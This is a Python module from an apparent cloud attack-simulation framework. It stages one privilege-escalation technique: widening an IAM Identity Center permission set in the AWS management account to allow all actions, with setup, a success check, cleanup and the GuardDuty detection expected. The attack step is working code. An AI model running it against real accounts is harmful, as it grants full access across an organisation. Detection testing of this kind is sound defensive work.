"""Widen a permission set of Identity Center from the management account: the next sign-in carries it everywhere."""

from bastide.attack.stage import Stage, policy
from bastide.attack.technique import NotPlayable, Recorded, Scene, Technique

TECHNIQUE = Technique(
    title="A permission set is widened",
    mitre=("T1098.003",),
    tactic="privilege-escalation",
    detectors=("GuardDuty PrivilegeEscalation:IAMUser/AnomalousBehavior",),
    expected=Recorded("service control policies do not bind the management account: nobody works there"),
    where="management",
    source="IAM Identity Center API Reference, PutInlinePolicyToPermissionSet",
)


def prepare(stage: Stage) -> Scene:
    """A permission set that allows nothing yet."""
    account = stage.accounts["management"]
    sso = stage.owner(account).client("sso-admin")
    found = sso.list_instances()["Instances"]
    if not found:
        raise NotPlayable("there is no instance of Identity Center")
    arn = found[0]["InstanceArn"]
    made = sso.create_permission_set(InstanceArn=arn, Name=stage.name("Helpdesk"))["PermissionSet"]
    return {"account": account, "set": {"InstanceArn": arn, "PermissionSetArn": made["PermissionSetArn"]}}


def attack(stage: Stage, scene: Scene) -> None:
    """Allow everything."""
    everything = policy({"Effect": "Allow", "Action": "*", "Resource": "*"})
    sso = stage.attacker(scene["account"]).client("sso-admin")
    sso.put_inline_policy_to_permission_set(**scene["set"], InlinePolicy=everything)


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The set has an inline policy."""
    sso = stage.owner(scene["account"]).client("sso-admin")
    return bool(sso.get_inline_policy_for_permission_set(**scene["set"])["InlinePolicy"])


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the set."""
    stage.owner(scene["account"]).client("sso-admin").delete_permission_set(**scene["set"])
